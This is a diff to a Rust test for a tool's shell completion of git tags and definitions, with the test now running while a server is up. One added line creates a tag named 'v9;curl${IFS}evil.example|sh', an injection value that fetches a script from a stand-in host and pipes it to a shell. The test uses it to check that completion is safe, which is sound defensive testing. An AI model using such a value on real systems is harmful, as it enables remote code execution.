@@ -361,14 +361,21 @@ fn what_a_user_types_means_the_same_for_every_command() {
 }
 
 #[test]
-fn tags_and_definitions_are_completed() {
-    let (_shop, sandbox) = indexed();
-    let data = sandbox.data().display().to_string();
-    let proposed = |words: &[&str]| sandbox.run(&[&["complete", "--"], words].concat()).ok().stdout;
-    assert_eq!(proposed(&["--data-dir", &data, "shipped", "v"]), "v1\ttag\n");
-    assert_eq!(proposed(&["--data-dir", &data, "shipped", "main..v"]), "main..v1\ttag\n");
-    assert_eq!(proposed(&["--data-dir", &data, "entity", "tot"]), "total\tdefinition\n");
-    assert_eq!(proposed(&["--data-dir", &data, "entity", "none\""]), "");
+fn tags_and_definitions_are_completed_while_a_server_runs() {
+    let shop = shop();
+    shop.git(["tag", "v9;curl${IFS}evil.example|sh"]);
+    let sandbox = Sandbox::indexed(&shop);
+    let data = sandbox.path().join("home/.local/share/backstory").display().to_string();
+    let proposed =
+        |words: &[&str]| sandbox.run(&[&["complete", "--", "--data-dir", data.as_str()], words].concat()).ok().stdout;
+    assert_eq!(proposed(&["shipped", "v"]), "", "the stores are not opened for that");
+    let server = sandbox.serve();
+    // A shell would execute the other tag.
+    assert_eq!(proposed(&["shipped", "v"]), "v1\ttag\n");
+    assert_eq!(proposed(&["shipped", "main..v"]), "main..v1\ttag\n");
+    assert_eq!(proposed(&["entity", "tot"]), "total\tdefinition\n");
+    assert_eq!(proposed(&["entity", "none\""]), "");
+    assert_eq!(server.stop().0, Some(0));
 }
 
 #[test]
